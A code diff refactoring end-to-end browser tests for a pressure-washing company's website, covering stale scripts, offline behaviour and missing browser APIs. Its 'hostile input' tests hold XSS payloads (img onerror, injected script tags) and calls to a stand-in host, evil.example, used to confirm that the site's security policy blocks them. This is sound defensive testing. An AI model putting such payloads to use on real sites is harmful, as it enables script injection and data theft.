@@ -3,7 +3,7 @@ import { describe, expect, test } from 'vitest';
 import { paths } from '../../src/domain/routes.ts';
 import { answerRequests } from '../support/servers/answer-requests.ts';
 import { click, press } from '../support/visits/click.ts';
-import { isHydrated, phone, readText, siteUrl, visit, wait, waitForText, type Visitor } from '../support/visitor.ts';
+import { arrive, isHydrated, phone, readText, siteUrl, wait, waitForText, type Visitor } from '../support/visitor.ts';
 
 const documentsAsked = (visitor: Visitor, path: string) =>
   visitor.requests.filter((address) => address === siteUrl + path).length;
@@ -17,19 +17,17 @@ describe('a script that a new deployment has replaced', () => {
   const servicesScript = '*/assets/ServicesPage-*.js';
 
   test('makes the page load once in full, and then it is there', async () => {
-    await visit({}, async (visitor) => {
-      const { page, open } = visitor;
-      await open(paths.home);
-      await answerRequests(page, servicesScript, () =>
-        documentsAsked(visitor, paths.services) === 0 ? { status: 404 } : 'pass',
-      );
-      await clickLink(page, paths.services);
-      await waitForHeading(page, 'Our Services');
-      await page.waitForFunction(isHydrated);
-      expect(new URL(page.url()).pathname).toBe(paths.services);
-      // One to see whether the site answers, one to load the page.
-      expect(documentsAsked(visitor, paths.services)).toBe(2);
-    });
+    const visitor = await arrive({ path: paths.home });
+    const { page } = visitor;
+    await answerRequests(page, servicesScript, () =>
+      documentsAsked(visitor, paths.services) === 0 ? { status: 404 } : 'pass',
+    );
+    await clickLink(page, paths.services);
+    await waitForHeading(page, 'Our Services');
+    await page.waitForFunction(isHydrated);
+    expect(new URL(page.url()).pathname).toBe(paths.services);
+    // One to see whether the site answers, one to load the page.
+    expect(documentsAsked(visitor, paths.services)).toBe(2);
   });
 
   test.each([
@@ -38,30 +36,29 @@ describe('a script that a new deployment has replaced', () => {
   ])(
     'and stays away, %s, leaves a page to read, says so and does not reload for ever',
     async (_how, start, isBlocked) => {
-      await visit({}, async (visitor) => {
-        const { page } = visitor;
-        if (isBlocked)
-          await page.evaluateOnNewDocument(() =>
-            Object.defineProperty(window, 'sessionStorage', {
-              get() {
-                throw new DOMException('Access is denied for this document.', 'SecurityError');
-              },
-            }),
-          );
-        await answerRequests(page, servicesScript, () => ({ status: 404 }));
-        if (start === paths.services) await page.goto(siteUrl + start, { waitUntil: 'load' });
-        else {
-          await visitor.open(start);
-          await clickLink(page, paths.services);
-        }
-        await waitForText(page, 'Part of this page did not load');
-        expect(await readText(page, 'h1')).toBe('Our Services');
-        expect(await page.$$eval('main h3', (titles) => titles.length)).toBeGreaterThan(8);
-        const asked = documentsAsked(visitor, paths.services);
-        await wait(1000);
-        expect(documentsAsked(visitor, paths.services)).toBe(asked);
-        expect(asked).toBeLessThanOrEqual(4);
-      });
+      const visitor = await arrive();
+      const { page } = visitor;
+      if (isBlocked)
+        await page.evaluateOnNewDocument(() =>
+          Object.defineProperty(window, 'sessionStorage', {
+            get() {
+              throw new DOMException('Access is denied for this document.', 'SecurityError');
+            },
+          }),
+        );
+      await answerRequests(page, servicesScript, () => ({ status: 404 }));
+      if (start === paths.services) await page.goto(siteUrl + start, { waitUntil: 'load' });
+      else {
+        await visitor.open(start);
+        await clickLink(page, paths.services);
+      }
+      await waitForText(page, 'Part of this page did not load');
+      expect(await readText(page, 'h1')).toBe('Our Services');
+      expect(await page.$$eval('main h3', (titles) => titles.length)).toBeGreaterThan(8);
+      const asked = documentsAsked(visitor, paths.services);
+      await wait(1000);
+      expect(documentsAsked(visitor, paths.services)).toBe(asked);
+      expect(asked).toBeLessThanOrEqual(4);
     },
   );
 });
@@ -75,111 +72,102 @@ describe('generated content that is', () => {
     ],
     ['of another shape', { status: 200, body: '{"bodyHtml":null}' }],
   ])('%s makes the browser load the page in full, which carries its content', async (_fault, answer) => {
-    await visit({}, async ({ page, open }) => {
-      await open(paths.areas);
-      await answerRequests(page, '*/content/*', () => answer);
-      await clickLink(page, paths.town('exeter'));
-      await waitForHeading(page, 'Pressure Washing in Exeter');
-      expect(await page.title()).toContain('Exeter');
-      expect(await page.$eval('main', (main) => main.textContent!.length)).toBeGreaterThan(2000);
-    });
+    const { page } = await arrive({ path: paths.areas });
+    await answerRequests(page, '*/content/*', () => answer);
+    await clickLink(page, paths.town('exeter'));
+    await waitForHeading(page, 'Pressure Washing in Exeter');
+    expect(await page.title()).toContain('Exeter');
+    expect(await page.$eval('main', (main) => main.textContent!.length)).toBeGreaterThan(2000);
   });
 });
 
 test('without a connection the visitor keeps the site, a phone number and a page that opens by itself', async () => {
-  await visit({ viewport: phone }, async (visitor) => {
-    const { page, open } = visitor;
-    await open(paths.home);
-    await page.setOfflineMode(true);
-    await clickLink(page, paths.services);
-    await waitForText(page, 'There seems to be no connection.');
-    await click(page, 'Load the page again');
-    expect(await readText(page, 'h1')).toBe('This page did not load');
-    expect(await page.$('header a[href^="tel:"]')).not.toBeNull();
-    await page.setOfflineMode(false);
-    await waitForHeading(page, 'Our Services');
-  });
+  const { page } = await arrive({ viewport: phone, path: paths.home });
+  await page.setOfflineMode(true);
+  await clickLink(page, paths.services);
+  await waitForText(page, 'There seems to be no connection.');
+  await click(page, 'Load the page again');
+  expect(await readText(page, 'h1')).toBe('This page did not load');
+  expect(await page.$('header a[href^="tel:"]')).not.toBeNull();
+  await page.setOfflineMode(false);
+  await waitForHeading(page, 'Our Services');
 });
 
 test('a browser without popovers and dialogs shows a service where it stands, and closes it', async () => {
-  await visit({ viewport: phone }, async ({ page, open, complaints }) => {
-    await page.evaluateOnNewDocument(() => {
-      for (const name of ['showPopover', 'hidePopover', 'togglePopover'])
-        delete (HTMLElement.prototype as unknown as Record<string, unknown>)[name];
-      for (const name of ['showModal', 'show', 'close'])
-        delete (HTMLDialogElement.prototype as unknown as Record<string, unknown>)[name];
-    });
-    await open(paths.services);
-    await page.$$eval('main button', (buttons) =>
-      buttons.find((button) => button.textContent!.includes('More Info'))!.click(),
-    );
-    await page.waitForFunction(
-      () =>
-        document.querySelector('dialog')?.checkVisibility() &&
-        document.querySelector('dialog')!.textContent!.includes('Our Process'),
-    );
-    await page.$eval('dialog button[aria-label="Close dialog"]', (button) => (button as HTMLButtonElement).click());
-    await page.waitForFunction(() => !document.querySelector('dialog'));
-    await clickLink(page, paths.guarantee);
-    await page.waitForFunction(() => location.pathname === '/guarantee' && document.querySelector('h1'));
-    expect(complaints).toEqual([]);
+  const { page, open, complaints } = await arrive({ viewport: phone });
+  await page.evaluateOnNewDocument(() => {
+    for (const name of ['showPopover', 'hidePopover', 'togglePopover'])
+      delete (HTMLElement.prototype as unknown as Record<string, unknown>)[name];
+    for (const name of ['showModal', 'show', 'close'])
+      delete (HTMLDialogElement.prototype as unknown as Record<string, unknown>)[name];
   });
+  await open(paths.services);
+  await page.$$eval('main button', (buttons) =>
+    buttons.find((button) => button.textContent!.includes('More Info'))!.click(),
+  );
+  await page.waitForFunction(
+    () =>
+      document.querySelector('dialog')?.checkVisibility() &&
+      document.querySelector('dialog')!.textContent!.includes('Our Process'),
+  );
+  await page.$eval('dialog button[aria-label="Close dialog"]', (button) => (button as HTMLButtonElement).click());
+  await page.waitForFunction(() => !document.querySelector('dialog'));
+  await clickLink(page, paths.guarantee);
+  await page.waitForFunction(() => location.pathname === '/guarantee' && document.querySelector('h1'));
+  expect(complaints).toEqual([]);
 });
 
 describe('hostile input', () => {
   test('markup in the query or the fragment stays text', async () => {
-    await visit({}, async ({ page, open, complaints }) => {
-      const markup = encodeURI('<img src=x onerror="document.title=`run`"><script>document.title=`run`</script>');
-      await open(`/?q=${markup}#${markup}`);
-      await open('/#%E0%A4%A');
-      await open('/#"]');
-      expect(await page.title()).toContain('Tidemark');
-      expect(complaints).toEqual([]);
-    });
+    const { page, open, complaints } = await arrive();
+    const markup = encodeURI('<img src=x onerror="document.title=`run`"><script>document.title=`run`</script>');
+    await open(`/?q=${markup}#${markup}`);
+    await open('/#%E0%A4%A');
+    await open('/#"]');
+    expect(await page.title()).toContain('Tidemark');
+    expect(complaints).toEqual([]);
   });
 
   test('a script that got into a page after all is not run, and nothing is sent elsewhere', async () => {
-    await visit({}, async ({ page, open }) => {
-      await open(paths.home);
-      const outcome = await page.evaluate(async () => {
-        const blocked: string[] = [];
-        addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
-        const refused: string[] = [];
-        const attempt = (name: string, action: () => void) => {
-          try {
-            action();
-          } catch {
-            refused.push(name);
-          }
-        };
-        const put = (tag: string) => document.body.appendChild(document.createElement(tag));
-        attempt('markup', () =>
-          document.body.insertAdjacentHTML('beforeend', '<img src="/none.png" onerror="window.ran = true">'),
-        );
-        attempt('parsed text', () => new DOMParser().parseFromString('<img src="/none.png">', 'text/html'));
-        attempt('handler', () => put('img').setAttribute('onerror', 'window.ran = true'));
-        attempt('script', () => (put('script').textContent = 'window.ran = true'));
-        attempt('foreign script', () => ((put('script') as HTMLScriptElement).src = 'https://evil.example/x.js'));
-        attempt('another gate', () =>
-          (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes //
-            .createPolicy('other', {}),
-        );
-        const link = put('a') as HTMLAnchorElement;
-        link.href = 'javascript:window.ran = true';
-        link.click();
-        const sent = await fetch('https://evil.example/', { mode: 'no-cors' }).then(
-          () => true,
-          () => false,
-        );
-        await new Promise((resolve) => setTimeout(resolve, 500));
-        return { ran: 'ran' in window, sent, refused, blocked: [...new Set(blocked)].sort() };
-      });
-      expect(outcome).toEqual({
-        ran: false,
-        sent: false,
-        refused: ['markup', 'parsed text', 'handler', 'script', 'foreign script', 'another gate'],
-        blocked: ['connect-src', 'require-trusted-types-for', 'script-src-elem', 'trusted-types'],
-      });
+    const { page } = await arrive({ path: paths.home });
+    const outcome = await page.evaluate(async () => {
+      const blocked: string[] = [];
+      addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
+      const refused: string[] = [];
+      const attempt = (name: string, action: () => void) => {
+        try {
+          action();
+        } catch {
+          refused.push(name);
+        }
+      };
+      const put = (tag: string) => document.body.appendChild(document.createElement(tag));
+      attempt('markup', () =>
+        document.body.insertAdjacentHTML('beforeend', '<img src="/none.png" onerror="window.ran = true">'),
+      );
+      attempt('parsed text', () => new DOMParser().parseFromString('<img src="/none.png">', 'text/html'));
+      attempt('handler', () => put('img').setAttribute('onerror', 'window.ran = true'));
+      attempt('script', () => (put('script').textContent = 'window.ran = true'));
+      attempt('foreign script', () => ((put('script') as HTMLScriptElement).src = 'https://evil.example/x.js'));
+      attempt('another gate', () =>
+        (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes //
+          .createPolicy('other', {}),
+      );
+      const link = put('a') as HTMLAnchorElement;
+      link.href = 'javascript:window.ran = true';
+      link.click();
+      const sent = await fetch('https://evil.example/', { mode: 'no-cors' }).then(
+        () => true,
+        () => false,
+      );
+      await new Promise((resolve) => setTimeout(resolve, 500));
+      return { ran: 'ran' in window, sent, refused, blocked: [...new Set(blocked)].sort() };
+    });
+    expect(outcome).toEqual({
+      ran: false,
+      sent: false,
+      refused: ['markup', 'parsed text', 'handler', 'script', 'foreign script', 'another gate'],
+      blocked: ['connect-src', 'require-trusted-types-for', 'script-src-elem', 'trusted-types'],
     });
   });
 });
